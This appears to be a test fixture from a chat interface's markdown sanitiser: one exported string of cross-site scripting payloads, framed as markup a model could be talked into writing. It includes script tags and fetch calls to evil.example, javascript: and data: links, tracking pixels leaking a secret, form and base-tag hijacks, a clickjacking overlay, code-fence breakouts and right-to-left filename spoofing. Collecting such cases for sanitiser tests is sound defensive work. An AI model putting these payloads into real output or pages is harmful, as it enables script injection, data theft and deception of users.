// What a model may be talked into writing.

export const HOSTILE = `
<script>globalThis.hacked = 1; fetch("https://evil.example/a")</script>

<img src=x onerror="globalThis.hacked = 2">
<img src="https://pixel.example/?secret=1">

![tracking](https://pixel.example/p.png?secret=42)
![](//pixel.example/q.png)
![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

[click](javascript:globalThis.hacked=3) [also](JaVaScRiPt:alert(1)) [tab](java&#9;script:alert(1)) <javascript:alert(1)>
[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox) [file](file:///etc/passwd) [relative](/api/session)
[fine](https://good.example/path) [mail](mailto:a@good.example) https://auto.example/x [quote](https://good.example/"onmouseover="alert(1))

<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><form action="https://evil.example"><input name=a></form>
<svg onload=alert(1)><animate onbegin=alert(1)></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>
<div style="position:fixed;inset:0" onclick="alert(1)" id="composer">cover</div><button data-cite="1" popovertarget="x">fake</button>
<a href="https://good.example" onclick="alert(1)" style="color:red">raw link</a><br onload=alert(1)>

\`\`\`"><img src=x onerror=alert(1)>
</code></pre><script>alert(1)</script>
\`\`\`

| <img src=x onerror=alert(1)> | b |
| --- | --- |
| [x](javascript:alert(1)) | <script>alert(1)</script> [1] |

[ref]: javascript:alert(1) "title"
[a reference][ref] [1] [99] \`[1]\`

Right to left: \u202egnp.exe\u202c and \u0000 zero.

An unclosed fence at the end:

\`\`\`html
<img src=x onerror=alert(1)>
`;
